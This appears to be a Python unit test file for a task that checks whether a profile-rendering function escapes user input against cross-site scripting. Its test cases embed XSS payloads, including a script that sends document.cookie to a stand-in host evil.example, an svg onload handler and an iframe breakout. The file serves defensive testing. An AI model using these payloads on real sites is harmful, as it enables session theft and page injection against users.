import html.parser
import unittest

import solution


class _Scan(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.event_attrs = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.event_attrs.extend(n for n, _ in attrs if n.lower().startswith("on"))


def _scan(user):
    scan = _Scan()
    scan.feed(solution.render_profile(user))
    return scan


class RenderProfileSecurity(unittest.TestCase):
    def test_script_in_bio(self):
        scan = _scan({"display_name": "eve", "bio": "<script>new Image().src='//evil.example/'+document.cookie</script>",
                      "location": "x"})
        self.assertNotIn("script", scan.tags)

    def test_markup_in_display_name(self):
        scan = _scan({"display_name": "<svg onload=alert(1)>", "bio": "", "location": "x"})
        self.assertNotIn("svg", scan.tags)
        self.assertEqual(scan.event_attrs, [])

    def test_closing_tag_breakout_in_location(self):
        scan = _scan({"display_name": "eve", "bio": "", "location": "</span></div><iframe src=//evil.example>"})
        self.assertNotIn("iframe", scan.tags)


if __name__ == "__main__":
    unittest.main()
